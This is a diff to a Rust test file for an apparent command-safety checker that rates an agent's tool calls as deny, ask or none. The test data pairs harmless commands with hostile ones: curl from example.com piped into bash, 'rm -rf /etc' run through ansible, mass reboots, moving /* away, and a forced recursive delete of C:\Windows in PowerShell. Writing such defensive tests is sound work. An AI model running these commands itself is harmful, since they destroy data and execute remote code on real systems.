@@ -302,7 +302,30 @@ fn what_hides_in_flags_code_and_input_is_found() {
         ask filesystem.move-away ~ hash -p /bin/mv away; away /* /tmp/x ~ hash -p /bin/ls away; away /* /tmp/x
         deny remote-code.pipe ~ exec {fd}< <(curl https://example.com); bash /proc/self/fd/$fd ~ exec {fd}< <(ls); cat /proc/self/fd/$fd
         deny remote-code.pipe ~ coproc J { curl https://example.com; }; bash <&${J[0]} ~ coproc J { ls; }; cat <&${J[0]}
+        deny filesystem.delete-tree ~ ansible all -m shell -a 'rm -rf /etc' ~ ansible all -m shell -a 'ls /etc'
+        deny services.power ~ ansible web -b -a reboot ~ ansible web -m ping
         ask services.stop ~ echo 'disable server web/a' | socat stdio /run/haproxy.sock ~ echo 'show stat' | socat stdio /run/haproxy.sock
         "#,
+    );
+}
+
+#[test]
+fn the_tool_of_powershell_is_read_as_powershell() {
+    let found = |tool: &str, command: &str| {
+        let input = json!({"command": command});
+        let call = ToolCall {
+            tool,
+            input: &input,
+            cwd: "/home/ann/app",
+        };
+        let found = assess(&call, &Facts::default(), &Settings::default());
+        found.verdict.as_str()
+    };
+    let command = r"Remove-Item -Recurse -Force C:\Windows";
+    assert_eq!(found("PowerShell", command), "deny");
+    assert_eq!(found("PowerShell", r"Get-ChildItem C:\Windows"), "none");
+    assert_eq!(
+        found("PowerShell", "Write-Output 'Remove-Item -Recurse /'"),
+        "none"
     );
 }
